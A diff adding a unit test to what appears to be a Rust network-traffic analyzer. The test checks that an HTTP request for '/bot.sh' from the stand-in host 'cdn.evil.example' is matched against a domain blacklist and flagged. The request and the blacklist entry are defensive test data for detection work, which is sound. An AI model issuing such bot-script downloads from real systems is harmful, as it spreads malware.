@@ -430,3 +430,41 @@ fn client_port_does_not_decide_the_protocol() {
     assert!(r.dns.is_empty(), "{:?}", r.dns);
     assert_eq!(r.summary.malformed_dns, 0);
 }
+
+#[test]
+fn blacklisted_domain_from_http_host() {
+    let (c, s) = (ip("10.0.0.2"), ip("198.51.100.20"));
+    let mut f = Vec::new();
+    let req = b"GET /bot.sh HTTP/1.1\r\nHost: cdn.evil.example:8080\r\n\r\n";
+    build_frame(
+        &mut f,
+        c,
+        40000,
+        s,
+        8080,
+        Transport::Tcp {
+            seq: 1,
+            ack: 0,
+            flags: 0x18,
+        },
+        req,
+    );
+    let mut opts = Options::default();
+    opts.blacklist
+        .add_list("evil.example\n", "test")
+        .unwrap_or_else(|e| panic!("{e}"));
+    let r = analyze_reader(&classic(&[f], 1, 0, &[])[..], &opts).unwrap_or_else(|e| panic!("{e}"));
+    let e = r
+        .endpoints
+        .iter()
+        .find(|e| e.ip == s)
+        .unwrap_or_else(|| panic!("no endpoint {s}"));
+    assert_eq!(e.names, ["cdn.evil.example"]);
+    assert!(e.blacklisted);
+    assert!(
+        r.anomalies
+            .iter()
+            .any(|a| a.kind == "blacklisted_endpoint" && a.source == Some(s))
+    );
+    assert!(!r.endpoints.iter().any(|e| e.ip == c && e.blacklisted));
+}
